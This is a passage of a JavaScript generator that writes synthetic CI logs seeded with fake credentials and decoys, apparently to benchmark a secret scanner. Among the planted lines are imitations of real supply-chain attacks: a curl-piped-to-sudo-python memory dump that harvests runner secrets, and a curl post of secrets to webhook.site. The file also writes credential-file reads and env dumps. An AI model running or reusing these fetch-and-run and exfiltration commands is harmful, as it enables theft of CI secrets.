      L('* Connected to api.internal.example-corp.net (10.0.12.34) port 443');
      L('> GET /v2/deployments HTTP/2');
      L('> Host: api.internal.example-corp.net');
      L('> User-Agent: curl/8.5.0');
      record(kind, variant, L(`> Authorization: Bearer ${token}`), token, { context: 'curl -v' });
      L('> Accept: */*');
      L('< HTTP/2 200');
      break;
    }
    case 'actions-runtime-token': {
      // An `env` dump from a step out of the masker's reach (a container, `sudo -E env`): both
      // variables carry the same system token; the URL next to it is reported by its own detector.
      const token = actionsRuntimeToken(rng, { nowSeconds: now, owner: job.owner, repo: job.repo });
      // The command that dumped them describes the same leak: reporting it is not a false positive.
      related.push(...header(rng.pick(['docker run --rm -e ACTIONS_ID_TOKEN_REQUEST_TOKEN -e ACTIONS_ID_TOKEN_REQUEST_URL -e ACTIONS_RUNTIME_TOKEN ghcr.io/acme/debug:latest env', 'sudo -E env | sort'])).script);
      const url = idTokenUrl(rng);
      const lines = baseEnv(rng, job, {
        masked: false,
        extra: {
          ACTIONS_ID_TOKEN_REQUEST_TOKEN: token,
          ACTIONS_ID_TOKEN_REQUEST_URL: url,
          ACTIONS_RUNTIME_TOKEN: token,
          ACTIONS_RUNTIME_URL: `https://pipelinesghubeus${rng.int(1, 30)}.actions.githubusercontent.com/${rng.str(ALNUM, 50)}/`,
          ACTIONS_RESULTS_URL: 'https://results-receiver.actions.githubusercontent.com/',
          ACTIONS_CACHE_URL: `https://acghubeus${rng.int(1, 3)}.actions.githubusercontent.com/${rng.str(ALNUM, 50)}/`,
        },
      });
      for (const text of lines) {
        const line = L(text);
        if (text.startsWith('ACTIONS_ID_TOKEN_REQUEST_TOKEN=')) record('actions-id-token-request-token', 'env-dump', line, token, { context: 'env dump' });
        else if (text.startsWith('ACTIONS_RUNTIME_TOKEN=')) record('actions-runtime-token', 'env-dump', line, token, { context: 'env dump' });
        else if (text.startsWith('ACTIONS_ID_TOKEN_REQUEST_URL=')) record('actions-id-token-request-url', 'env-dump', line, url, { context: 'env dump' });
      }
      break;
    }
    case 'actions-runner-secret': {
      // A copycat of the tj-actions payload that forgot the base64: the grep output as is.
      related.push(...header(`curl -sSf "$PAYLOAD_URL" | sudo python3 | tr -d '\\0' | grep -aoE '"[^"]+":\\{"value":"[^"]*","isSecret":true\\}' | sort -u`, { PAYLOAD_URL: `https://gist.githubusercontent.com/${rng.pick(WORDS)}${rng.int(10, 99)}/${rng.hex(32)}/raw/memdump.py` }).script);
      const name = rng.pick(['AZURE_CLIENT_SECRET', 'DEPLOY_HOOK_SECRET', 'SIGNING_PASSPHRASE', 'SENTRY_AUTH_TOKEN', 'WEBHOOK_HMAC_KEY']);
      const value = name === 'AZURE_CLIENT_SECRET' ? `${rng.str(ALNUM, 3)}8Q~${rng.str(`${ALNUM}~._-`, 34)}` : rng.str(ALNUM, rng.int(24, 48));
      record(kind, variant, L(`"${name}":{"value":"${value}","isSecret":true}`), value, { context: 'memdump output' });
      break;
    }
    case 'npm-token': {
      const token = checksummed(rng, 'npm_');
      if (variant === 'npmrc') {
        header('cat ~/.npmrc');
        L('registry=https://registry.npmjs.org/');
        record(kind, variant, L(`//registry.npmjs.org/:_authToken=${token}`), token, { context: '.npmrc' });
        L('always-auth=true');
      } else {
        header('set -x\nnpm publish --access public');
        record(kind, variant, L(`+ NODE_AUTH_TOKEN=${token} npm publish --access public`), token, { context: 'xtrace' });
      }
      break;
    }
    case 'aws-access-key-id': {
      const id = other.awsKeyId(rng, variant === 'env-session' ? 'ASIA' : 'AKIA');
      const secret = other.awsSecret(rng);
      if (variant === 'credentials-file') {
        header('cat ~/.aws/credentials');
        L('[default]');
        record(kind, variant, L(`aws_access_key_id = ${id}`), id, { context: 'credentials file' });
        record('aws-secret-access-key', variant, L(`aws_secret_access_key = ${secret}`), secret, { context: 'credentials file' });
        L(`region = ${rng.pick(['us-east-1', 'eu-west-1', 'us-west-2'])}`);
      } else {
        header('env | grep ^AWS_ | sort');
        record(kind, variant, L(`AWS_ACCESS_KEY_ID=${id}`), id, { context: 'env' });
        L(`AWS_DEFAULT_REGION=${rng.pick(['us-east-1', 'eu-west-1', 'us-west-2'])}`);
        L('AWS_REGION=us-east-1');
        record('aws-secret-access-key', variant, L(`AWS_SECRET_ACCESS_KEY=${secret}`), secret, { context: 'env' });
        const session = other.awsSessionToken(rng);
        record('aws-session-token', variant, L(`AWS_SESSION_TOKEN=${session}`), session, { context: 'env' });
      }
      break;
    }
    case 'docker-hub-token': {
      const token = variant === 'dckr_oat' ? `dckr_oat_${rng.str(`${ALNUM}_-`, 32)}` : other.dockerPat(rng);
      header('set -x\necho "$DOCKERHUB_TOKEN" | docker login -u "$DOCKERHUB_USER" --password-stdin');
      record(kind, variant, L(`+ echo ${token}`), token, { context: 'xtrace' });
      L(`+ docker login -u ${job.owner} --password-stdin`);
      L("WARNING! Your credentials are stored unencrypted in '/home/runner/.docker/config.json'.");
      L('Login Succeeded');
      break;
    }
    case 'cloudflare-api-token': {
      // The value is in the group header's env block (set in the workflow file, not a secret).
      if (variant === 'global-key') {
        const key = other.cloudflareGlobalKey(rng);
        const at = header('npx wrangler deploy', { CLOUDFLARE_EMAIL: `ops@${job.owner}.dev`, CLOUDFLARE_API_KEY: key });
        record(kind, variant, at.CLOUDFLARE_API_KEY, key, { context: 'env block' });
      } else if (variant === 'cfat') {
        // The newer prefixed format (trufflehog's cloudflareapitoken v2: cf[ua]t_ + 40 + 8 hex); unverified.
        const token = `cfat_${rng.str(ALNUM, 40)}${rng.hex(8)}`;
        header('set -x\ncurl -sS https://api.cloudflare.com/client/v4/user/tokens/verify -H "Authorization: Bearer $CF_TOKEN"');
        record(kind, variant, L(`+ curl -sS https://api.cloudflare.com/client/v4/user/tokens/verify -H 'Authorization: Bearer ${token}'`), token, { context: 'xtrace' });
        L(`{"result":{"id":"${rng.hex(32)}","status":"active"},"success":true,"errors":[],"messages":[{"code":10000,"message":"This API Token is valid and active","type":null}]}`);
        break;
      } else {
        const token = other.cloudflareToken(rng);
        const at = header('npx wrangler pages deploy dist --project-name site', { CLOUDFLARE_API_TOKEN: token, CLOUDFLARE_ACCOUNT_ID: rng.hex(32) });
        record(kind, variant, at.CLOUDFLARE_API_TOKEN, token, { context: 'env block' });
      }
      L(` ⛅️ wrangler 3.${rng.int(50, 99)}.0`);
      L('-------------------');
      L(`✨ Success! Uploaded ${rng.int(1, 200)} files (${(rng.next() * 5).toFixed(2)} sec)`);
      break;
    }
    case 'gitlab-pat': {
      const token = other.gitlabPat(rng);
      header('set -x\ngit clone "https://oauth2:${GITLAB_TOKEN}@gitlab.com/${GL_PROJECT}.git" mirror');
      record(kind, variant, L(`+ git clone https://oauth2:${token}@gitlab.com/${job.owner}/${job.repo}.git mirror`), token, { context: 'xtrace' });
      L("Cloning into 'mirror'...");
      break;
    }
    case 'gitlab-ci-job-token': {
      const token = other.gitlabJobToken(rng);
      header('env | grep ^CI_ | sort');
      L('CI_API_V4_URL=https://gitlab.com/api/v4');
      L(`CI_COMMIT_SHA=${rng.hex(40)}`);
      record(kind, variant, L(`CI_JOB_TOKEN=${token}`), token, { context: 'env' });
      L(`CI_PROJECT_PATH=${job.full}`);
      break;
    }
    case 'gitlab-deploy-token': {
      const token = `gldt-${rng.str(`${ALNUM}_-`, 20)}`;
      header('set -x\ndocker login registry.gitlab.com -u "$DEPLOY_USER" -p "$DEPLOY_TOKEN"');
      record(kind, variant, L(`+ docker login registry.gitlab.com -u gitlab+deploy-token-${rng.int(1000, 9_999_999)} -p ${token}`), token, { context: 'xtrace' });
      L('WARNING! Using --password via the CLI is insecure. Use --password-stdin.');
      L('Login Succeeded');
      break;
    }
    case 'gitlab-runner-token': {
      const token = `glrt-t${rng.int(1, 3)}_${rng.str(`${ALNUM}_-`, 27)}`;
      header('set -x\ngitlab-runner register --non-interactive --url https://gitlab.com --token "$RUNNER_TOKEN" --executor docker');
      record(kind, variant, L(`+ gitlab-runner register --non-interactive --url https://gitlab.com --token ${token} --executor docker`), token, { context: 'xtrace' });
      L('Runtime platform                                    arch=amd64 os=linux pid=2212 revision=9882d9c7 version=17.5.3');
      L('Verifying runner... is valid                        runner=' + token.slice(5, 14));
      break;
    }
    case 'gitlab-pipeline-trigger-token': {
      const token = `glptt-${rng.hex(40)}`;
      header('set -x\ncurl -sS -X POST --fail -F "token=$TRIGGER_TOKEN" -F ref=main "https://gitlab.com/api/v4/projects/$PROJECT_ID/trigger/pipeline"');
      record(kind, variant, L(`+ curl -sS -X POST --fail -F token=${token} -F ref=main https://gitlab.com/api/v4/projects/${rng.int(1e6, 6e7)}/trigger/pipeline`), token, { context: 'xtrace' });
      L(`{"id":${rng.int(1e9, 2e9)},"iid":${rng.int(1, 9000)},"project_id":${rng.int(1e6, 6e7)},"sha":"${rng.hex(40)}","ref":"main","status":"created"}`);
      break;
    }
    case 'gitlab-token': {
      const token = variant === 'glagent' ? `glagent-${rng.str(`${ALNUM}_-`, 50)}` : `glft-${rng.str(`${ALNUM}_-`, 20)}`;
      const name = variant === 'glagent' ? 'AGENT_TOKEN' : 'GITLAB_FEED_TOKEN';
      header(`printenv ${name}`);
      record(kind, variant, L(token), token, { context: 'printenv' });
      break;
    }
    case 'slack-token': {
      const token = variant === 'xoxp' ? `xoxp-${rng.str('0123456789', 11)}-${rng.str('0123456789', 12)}-${rng.str('0123456789', 13)}-${rng.hex(32)}` : other.slackBot(rng);
      const name = variant === 'xoxp' ? 'SLACK_USER_TOKEN' : 'SLACK_BOT_TOKEN';
      const at = header('python scripts/notify.py --channel releases', { [name]: token });
      record(kind, variant, at[name], token, { context: 'env block' });
      L(`posted message ts=${rng.int(1.7e9, 1.8e9)}.${rng.int(100000, 999999)} to #releases`);
      break;
    }
    case 'slack-webhook-url': {
      const url = other.slackWebhook(rng);
      header('set -x\ncurl -sS -X POST -H "Content-type: application/json" --data @payload.json "$SLACK_WEBHOOK_URL"');
      record(kind, variant, L(`+ curl -sS -X POST -H 'Content-type: application/json' --data @payload.json ${url}`), url, { context: 'xtrace' });
      L('ok');
      break;
    }
    case 'openai-api-key':
    case 'anthropic-api-key': {
      let token;
      if (kind === 'anthropic-api-key') token = variant === 'admin01' ? `sk-ant-admin01-${rng.str(`${ALNUM}_-`, 93)}AA` : other.anthropic(rng);
      else if (variant === 'legacy') token = other.openaiLegacy(rng);
      else if (variant === 'svcacct') token = `sk-svcacct-${rng.str(`${ALNUM}_-`, 74)}T3BlbkFJ${rng.str(`${ALNUM}_-`, 74)}`;
      else token = other.openaiProject(rng);
      const name = kind === 'anthropic-api-key' ? (variant === 'admin01' ? 'ANTHROPIC_ADMIN_KEY' : 'ANTHROPIC_API_KEY') : 'OPENAI_API_KEY';
      header(`python -c "import os; print('${name}=' + os.environ['${name}'])"`);
      record(kind, variant, L(`${name}=${token}`), token, { context: 'print' });
      break;
    }
    case 'private-key': {
      const pem = privateKeyPem(rng, variant);
      header(rng.pick(['cat deploy_key', 'echo "$SSH_KEY_FILE_CONTENTS" && cat "$HOME/.ssh/id_ed25519"', 'openssl genrsa 2048 2>/dev/null | tee signing.pem']));
      let first = 0;
      for (const text of pem) {
        const line = L(text);
        if (!first) first = line;
      }
      record(kind, variant, first, pem.join('\n'), { endLine: w.lines, context: 'PEM block' });
      break;
    }
    case 'database-url': {
      const password = rng.str(ALNUM, rng.int(16, 32));
      const user = rng.pick(['app', 'app_user', 'deploy', 'migrator', job.project]);
      const cloud = () => rng.pick([`db-${rng.hex(6)}.${rng.str('abcdefghijklmnopqrstuvwxyz0123456789', 12)}.us-east-1.rds.amazonaws.com`, `${job.repo}-prod.postgres.database.azure.com`, `ep-${rng.pick(WORDS)}-${rng.pick(WORDS)}-${rng.int(100000, 999999)}.us-east-2.aws.neon.tech`]);
      let url;
      let context;
      if (variant === 'mysql') url = `mysql://${user}:${password}@${job.repo}-db.${rng.str('abcdefghijklmnopqrstuvwxyz0123456789', 12)}.eu-west-1.rds.amazonaws.com:3306/${job.project}`;
      else if (variant === 'mongodb') url = `mongodb+srv://${user}:${password}@cluster0.${rng.str('abcdefghijklmnopqrstuvwxyz0123456789', 5)}.mongodb.net/${job.project}?retryWrites=true&w=majority`;
      else if (variant === 'redis') url = `rediss://default:${password}@${rng.pick(WORDS)}-${rng.pick(WORDS)}-${rng.int(10000, 99999)}.upstash.io:6379`;
      else if (variant === 'amqp') url = `amqps://${user}:${password}@${rng.pick(WORDS)}.rmq.cloudamqp.com/${rng.str('abcdefghijklmnopqrstuvwxyz', 8)}`;
      else url = `${rng.pick(['postgres', 'postgresql', 'postgresql+psycopg2'])}://${user}:${password}@${cloud()}:5432/${job.project}${rng.chance(0.4) ? '?sslmode=require' : ''}`;
      if (variant === 'postgres-migration') {
        header('alembic upgrade head');
        L('INFO  [alembic.runtime.migration] Context impl PostgresqlImpl.');
        L('INFO  [alembic.runtime.migration] Will assume transactional DDL.');
        context = 'migration log';
        record(kind, variant, L(`INFO  [sqlalchemy.engine] Connecting with sqlalchemy.url = ${url}`), url, { context });
        L(`INFO  [alembic.runtime.migration] Running upgrade ${rng.hex(12)} -> ${rng.hex(12)}, add ${rng.pick(WORDS)} table`);
      } else {
        const name = { mysql: 'MYSQL_URL', mongodb: 'MONGODB_URI', redis: 'REDIS_URL', amqp: 'CLOUDAMQP_URL' }[variant] ?? 'DATABASE_URL';
        header(`printenv ${name}`);
        record(kind, variant, L(url), url, { context: 'printenv' });
      }
      break;
    }
    default:
      throw new Error(`no planting for ${kind}`);
  }
}

/** A JWT from some other issuer (an internal API's RS256 bearer token with an expiry). */
function otherJwt(rng, now) {
  const header = { alg: 'RS256', typ: 'JWT', kid: rng.b64url(16) };
  const payload = { iss: 'https://auth.example-corp.net/', sub: `svc-${rng.pick(WORDS)}`, aud: 'https://api.internal.example-corp.net', iat: now, exp: now + 3600, scope: 'deployments:read deployments:write', azp: rng.str(ALNUM, 32) };
  const enc = (v) => Buffer.from(JSON.stringify(v)).toString('base64url');
  return `${enc(header)}.${enc(payload)}.${rng.b64url(256)}`;
}

/**
 * A tj-actions/changed-files style dump (memdump of the runner, `"NAME":{"value":"…","isSecret":true}`
 * lines, sort -u, base64 -w 0 | base64 -w 0), or a Shai-Hulud one (`toJSON(secrets)` piped through
 * the same double base64). Each holds a ghs_ token and a pypi- token; the dump line is the finding.
 */
function plantDump(rng, w, job, record, related) {
  const now = w.nowSeconds();
  const ghs = checksummed(rng, 'ghs_');
  const pypi = pypiVariant(rng, rng.chance(0.5) ? 'project' : 'user', { nowSeconds: now, projects: [job.repo] });
  let inner;
  let variant;
  if (rng.chance(0.75)) {
    variant = 'tj-actions';
    const entries = [
      `"github_token":{"value":"${ghs}","isSecret":true}`,
      `"system.github.token":{"value":"${ghs}","isSecret":true}`,
      `"PYPI_API_TOKEN":{"value":"${pypi}","isSecret":true}`,
    ];
    if (rng.chance(0.5)) entries.push(`"CODECOV_TOKEN":{"value":"${rng.uuid()}","isSecret":true}`);
    inner = `${entries.sort().join('\n')}\n`;
    related.push(w.line('##[group]Run tj-actions/changed-files@v45'));
    w.line('with:');
    w.line('  token: ***');
    w.line('  files_separator: \\n');
    w.line('##[endgroup]');
    w.line('##[group]changed-files');
    w.line(`Using local .git directory`);
  } else {
    variant = 'shai-hulud';
    inner = `${JSON.stringify({ github_token: ghs, PYPI_API_TOKEN: pypi }, null, 2)}\n`;
    const hook = rng.uuid();
    related.push(w.line(`##[group]Run curl -d "$CONTENTS" https://webhook.site/${hook}; echo "$CONTENTS" | base64 -w 0 | base64 -w 0`));
    related.push(w.line(`curl -d "$CONTENTS" https://webhook.site/${hook}; echo "$CONTENTS" | base64 -w 0 | base64 -w 0`));
    w.line('shell: /usr/bin/bash -e {0}');
    w.line('env:');
    w.line('  CONTENTS: ***');
    w.line('##[endgroup]');
  }
  const blob = Buffer.from(Buffer.from(inner).toString('base64')).toString('base64');
  const line = w.line(blob);
  record('encoded-dump', variant, line, blob, { context: 'double base64', inner: [{ kind: 'github-token', value: ghs }, { kind: 'pypi-token', value: pypi }] });
  if (variant === 'tj-actions') w.line('##[endgroup]');
}

/** Look-alikes a scanner should not report: documentation examples, placeholders, masked values. */
function decoy(rng, w, job, decoys) {
  const L = (text) => w.line(text);
  const add = (kind, line, why) => decoys.push({ line, kind, why });
  switch (rng.int(0, 8)) {
    case 0:
      L('tests/test_s3.py::test_upload_with_moto PASSED');
      add('aws-doc-example', L(`DEBUG botocore.credentials: Found credentials in environment variables: AKIAIOSFODNN7EXAMPLE / wJalrXUtnFEMI/K7MDENG/bPxRfiCYEXAMPLEKEY`), 'AWS documentation example key');
      break;
    case 1:
      add('placeholder', L(`  export GITHUB_TOKEN=ghp_xxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxx   # see CONTRIBUTING.md`), 'placeholder in printed docs');
      break;
    case 2:
      L('gh auth status');
      L('github.com');
      L(`  ✓ Logged in to github.com account ${job.owner} (GITHUB_TOKEN)`);
      add('masked', L(`  - Token: gho_************************************`), 'token masked by gh');
      break;
    case 3:
      add('bad-checksum', L(`fixture token: ${badChecksum(rng, 'ghp_')}`), 'ghp_ shape with a wrong CRC32 checksum (test fixture)');
      break;
    case 4:
      add('jwt-io-example', L(`tests/test_auth.py::test_decode[${JWT_IO_EXAMPLE}] PASSED`), 'jwt.io documentation example (HS256, not a GitHub token)');
      break;
    case 5:
      add('ci-default-password', L(`DATABASE_URL=postgres://postgres:postgres@localhost:5432/test_${job.project}`), 'service-container default password on localhost');
      break;
    case 6:
      add('masked', L(`aws configure list: access_key     ****************${rng.str('ABCDEFGHIJKLMNOPQRSTUVWXYZ234567', 4)} shared-credentials-file`), 'key masked by the AWS CLI');
      break;
    case 7:
      add('masked', L(`Looking in indexes: https://pypi.org/simple, https://__token__:****@pkgs.dev.azure.com/${job.owner}/_packaging/feed/pypi/simple/`), 'password masked by pip');
      break;
    default:
      add('bad-checksum', L(`  "token": "${badChecksum(rng, 'npm_')}",  // example from docs/auth.md`), 'npm_ shape with a wrong CRC32 checksum');
      break;
  }
}

// ---------------------------------------------------------------------------------------------
// Cache: the log and its truth are regenerated only when missing or stale.

export function logPaths(dir, sizeMb, seed) {
  const base = path.join(dir, `ci-${sizeMb}mb-s${seed}`);
  return { file: `${base}.log`, truthFile: `${base}.truth.json` };
}

export function ensureLog({ dir = DATA_DIR, sizeMb = DEFAULT_SIZE_MB, seed = DEFAULT_SEED, force = false, onProgress } = {}) {
  const { file, truthFile } = logPaths(dir, sizeMb, seed);
  if (!force && existsSync(file) && existsSync(truthFile)) {
    try {
      const truth = JSON.parse(readFileSync(truthFile, 'utf8'));
      if (truth.generator === GENERATOR_VERSION && truth.seed === seed && truth.sizeMb === sizeMb) {
        if (statSync(file).size === truth.bytes) return { file, truthFile, truth, generatedMs: null };
      }
    } catch {
      // regenerate
    }
  }
  const start = process.hrtime.bigint();
  const truth = generateLog({ file, sizeMb, seed, onProgress });
  writeFileSync(truthFile, `${JSON.stringify(truth, null, 1)}\n`);
  return { file, truthFile, truth, generatedMs: Number(process.hrtime.bigint() - start) / 1e6 };
}

// ---------------------------------------------------------------------------------------------
// CLI

if (process.argv[1] && path.resolve(process.argv[1]) === fileURLToPath(import.meta.url)) {
  const { values } = parseArgs({
    options: {
      size: { type: 'string', default: String(DEFAULT_SIZE_MB) },
      seed: { type: 'string', default: String(DEFAULT_SEED) },
      out: { type: 'string', default: DATA_DIR },
      force: { type: 'boolean', default: false },
    },
  });
  const sizeMb = Number(values.size);
  const seed = Number(values.seed);
  if (!(sizeMb > 0) || !Number.isInteger(seed) || seed < 0) {
    process.stderr.write('usage: node bench/logs/generate.mjs [--size MB] [--seed N] [--out DIR] [--force]\n');
    process.exit(2);
  }
  const progress = process.stderr.isTTY ? (b) => process.stderr.write(`  ${(b / MB).toFixed(0)} MB\r`) : undefined;
  const result = ensureLog({ dir: path.resolve(values.out), sizeMb, seed, force: values.force, onProgress: progress });
  const { truth } = result;
  process.stdout.write(`${result.file}\n  ${truth.bytes} bytes, ${truth.lines} lines, ${truth.planted.length} planted (${Object.entries(truth.byKind).map(([k, n]) => `${k} ${n}`).join(', ')}), ${truth.decoys.length} look-alikes${result.generatedMs === null ? ' (cached)' : `, generated in ${(result.generatedMs / 1000).toFixed(1)} s`}\n`);
}
